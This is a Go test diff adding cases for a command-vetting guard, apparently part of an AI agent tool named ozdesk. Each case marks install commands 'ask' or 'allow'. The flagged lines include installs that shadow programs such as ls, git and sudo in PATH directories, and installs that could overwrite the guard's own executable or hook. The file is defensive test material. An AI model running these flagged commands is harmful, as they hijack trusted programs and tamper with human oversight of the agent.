@@ -52,3 +52,73 @@ var fillCases = []evalCase{
 }
 
 func TestFillCases(t *testing.T) { runCases(t, fillCases) }
+
+// installBinCases (fx32c): an install is read as the programs it writes.
+// A program named like one the reader knows, put in a directory on PATH
+// (GOBIN, --root, the tool's own bin), runs later in its place, as `go
+// build -o ~/go/bin/ls .` does; programs of names the line does not
+// show, put in a directory the line chooses, write that whole directory
+// (in the queue's context, ozdesk's own executable and hook may be
+// there: installBinGuardedCases). Plain installs of names the line does
+// not show stay everyday.
+var installBinCases = []evalCase{
+	ask("GOBIN=/usr/local/bin go install ./cmd/ls", "cmd.unreadable"),
+	ask("GOBIN=$HOME/.local/bin go install example.com/x/cmd/git@latest", "cmd.unreadable"),
+	ask("go install ./cmd/ls", "cmd.unreadable"),
+	ask("go install example.com/evil/cmd/sudo@latest", "cmd.unreadable"),
+	ask("go env -w GOBIN=/usr/local/bin && go install ./cmd/ls", "cmd.unreadable"),
+	ask("export GOBIN=/usr/local/bin; go install ./cmd/git", "cmd.unreadable"),
+	ask("GOPATH=/usr/local go install ./cmd/ls", "cmd.unreadable"),
+	ask("cargo install --root ~/.local --bin git x", "cmd.unreadable"),
+	ask("cargo install --path . --bin ls", "cmd.unreadable"),
+	allow("go install ./cmd/tool"),
+	allow("go install ./..."),
+	allow("go install ."),
+	allow("go install golang.org/x/tools/cmd/goimports@latest"),
+	allow("GOBIN=/usr/local/bin go install ./cmd/tool"),
+	allow("GOBIN=$PWD/bin go install ./..."),
+	allow("GOBIN=./bin go install ./cmd/ls"),
+	allow("cargo install ripgrep"),
+	allow("cargo install --path ."),
+	allow("cargo install --root ./out x"),
+	allow("npm i -g typescript"),
+	allow("npm i --prefix ./web react"),
+	allow("pip install --user black"),
+	allow("pip install --prefix ./venv x"),
+	allow("gem install rails"),
+}
+
+func TestInstallBinCases(t *testing.T) { runCases(t, installBinCases) }
+
+// installBinGuardedCases: in the queue's context, an install of names
+// the line does not show into a directory of programs the line chooses
+// may overwrite ozdesk's executable or its hook there.
+var installBinGuardedCases = []evalCase{
+	ask("cargo install --root /usr/local x", "cmd.guard-tamper"),
+	ask("cargo install --root ~/.local x", "cmd.guard-tamper"),
+	ask("CARGO_INSTALL_ROOT=/usr/local cargo install x", "cmd.guard-tamper"),
+	ask("npm i -g --prefix ~/.local evil", "cmd.guard-tamper"),
+	ask("npm install --global --prefix=/usr/local evil", "cmd.guard-tamper"),
+	ask("npm_config_prefix=/usr/local npm i -g x", "cmd.guard-tamper"),
+	ask("npm config set prefix ~/.local && npm i -g evil", "cmd.guard-tamper"),
+	ask("GOBIN=$HOME/.local/bin go install ./...", "cmd.guard-tamper"),
+	ask("export GOBIN=~/.local/bin; go install ./cmd/...", "cmd.guard-tamper"),
+	ask("pip install --prefix /usr/local x", "cmd.guard-tamper"),
+	ask("pip install --prefix ~/.local x", "cmd.guard-tamper"),
+	ask("gem install -n /usr/local/bin x", "cmd.guard-tamper"),
+	allow("go install ./..."),
+	allow("go install ./cmd/tool"),
+	allow("GOBIN=/usr/local/bin go install ./cmd/tool"),
+	allow("GOBIN=$HOME/.local/bin go install example.com/x@latest"),
+	allow("GOBIN=$PWD/bin go install ./..."),
+	allow("cargo install ripgrep"),
+	allow("cargo install --root ./out x"),
+	allow("npm i -g typescript"),
+	allow("npm i --prefix ./web react"),
+	allow("npm config set prefix ~/.npm-global"),
+	allow("pip install --user black"),
+	allow("pip install --prefix ./venv x"),
+	allow("gem install rails"),
+}
+
+func TestInstallBinGuardedCases(t *testing.T) { runGuardedCases(t, installBinGuardedCases) }
